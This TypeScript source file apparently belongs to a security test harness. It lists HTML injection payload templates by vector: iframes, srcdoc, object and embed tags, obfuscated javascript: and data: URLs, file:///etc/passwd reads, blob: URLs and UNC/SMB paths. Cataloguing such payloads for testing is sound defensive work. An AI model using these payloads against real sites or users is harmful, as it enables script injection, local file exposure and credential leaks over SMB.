import { byHand, byItself, type Payload } from './payload'

/** Pages within the page, and places that are no web page. */
export const framing: Payload[] = [
  ...byItself('iframe', [
    '<iframe src="%U%/frame.html"></iframe>',
    '<iframe src="//%H%/frame.html" sandbox="allow-scripts allow-top-navigation"></iframe>',
    '<frameset><frame src="%U%/frameset.html"></frameset>',
    '<iframe src="%A%/index.html"></iframe>',
    '<iframe src="clip://00000000000000000000000000/original"></iframe>',
    '<fencedframe src="%U%/fenced"></fencedframe><portal src="%U%/portal"></portal>',
  ]),
  ...byItself('srcdoc', [
    '<iframe srcdoc="<script>%J%</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=%J%&gt;"></iframe>',
    '<iframe srcdoc="<img src=%U%/inner.png>"></iframe>',
    '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>parent.%J%</script>"></iframe>',
    '<iframe srcdoc="<meta http-equiv=refresh content=\'0;url=%U%/inner\'>"></iframe>',
  ]),
  ...byItself('object', [
    '<object data="%U%/object.html" type=text/html></object>',
    '<object data="data:text/html,<script>%J%</script>"></object>',
    '<object data="javascript:%J%"></object>',
    '<embed src="%U%/embed.svg">',
    '<embed src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22%J%%22/>">',
    '<object classid="clsid:0" codebase="%U%/code"><param name=src value="%U%/param"></object>',
    '<applet code=a codebase="%U%/"></applet>',
  ]),
  ...byItself('javascript:', [
    '<iframe src="javascript:%J%"></iframe>',
    '<iframe src=" &#9;java&#10;script:%J%"></iframe>',
    '<img src="javascript:%J%"><link rel=stylesheet href="javascript:%J%">',
    '<meta http-equiv=refresh content="0;url=javascript:%J%">',
  ]),
  ...byHand('javascript:', [
    '<a href="javascript:%J%">press</a>',
    '<a href="JAVASCRIPT&colon;%J%">press</a>',
    '<a href="java&Tab;script&#x3a;%J%">press</a>',
    '<a href="&#1;javascript:%J%">press</a>',
    '<a href="javascript://%0a%J%">press</a>',
    '<a href="javascript:%J%" target=_blank>press</a>',
    '<map name=m><area shape=rect coords=0,0,90,90 href="javascript:%J%"></map><img usemap=#m width=90 height=90 alt=m>',
    '<a href="view-source:javascript:%J%">press</a><a href="vbscript:%J%">press</a>',
  ]),
  ...byItself('data:', [
    '<iframe src="data:text/html,<script>%J%</script>"></iframe>',
    '<iframe src="data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDApPC9zY3JpcHQ+"></iframe>',
    '<iframe src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><script>%J%</script></svg>"></iframe>',
    '<link rel=stylesheet href="data:text/css,p{background:url(%U%/data.png)}"><p>p</p>',
  ]),
  ...byHand('data:', [
    '<a href="data:text/html,<script>%J%</script>">press</a>',
    '<a href="data:text/html,<script>%J%</script>" download=page.html>press</a>',
    '<a href="data:application/octet-stream,x" download>press</a>',
  ]),
  ...byItself('file:', [
    '<img src="%B%">',
    '<iframe src="%B%"></iframe>',
    '<object data="%B%"></object>',
    '<link rel=stylesheet href="%B%"><style>@import url("%B%");</style>',
    '<video src="%B%"></video><script src="%B%"></script>',
    '<svg><use href="%B%#a"></use><image href="%B%" width=9 height=9></image></svg>',
    '<iframe src="file:///etc/passwd"></iframe><img src="file:///etc/passwd">',
  ]),
  ...byHand('file:', [
    '<a href="%B%">press</a>',
    '<a href="%B%" target=_blank>press</a>',
    '<form action="%B%"><button>send</button></form>',
  ]),
  ...byItself('blob:', [
    '<iframe src="blob:null/0"></iframe><img src="blob:%A%/0">',
    '<script>const f=document.createElement("iframe");f.src=URL.createObjectURL(new Blob(["<script>%J%<\\/script>"],{type:"text/html"}));document.documentElement.append(f)</script>',
  ]),
  ...byHand('blob:', [
    '<a href="blob:%A%/0">press</a><a href="filesystem:%A%/temporary/0">press</a>',
  ]),
  ...byItself('unc', [
    '<img src="\\\\%H%\\share\\pixel.png">',
    '<img src="file://%H%/share/pixel.png"><img src="smb://%H%/share/pixel.png">',
    '<iframe src="\\\\%H%\\share\\page.html"></iframe>',
    '<link rel=stylesheet href="\\\\%H%\\share\\sheet.css">',
  ]),
  ...byHand('unc', [
    '<a href="\\\\%H%\\share\\page">press</a><a href="file://%H%/share/p">press</a>',
  ]),
]
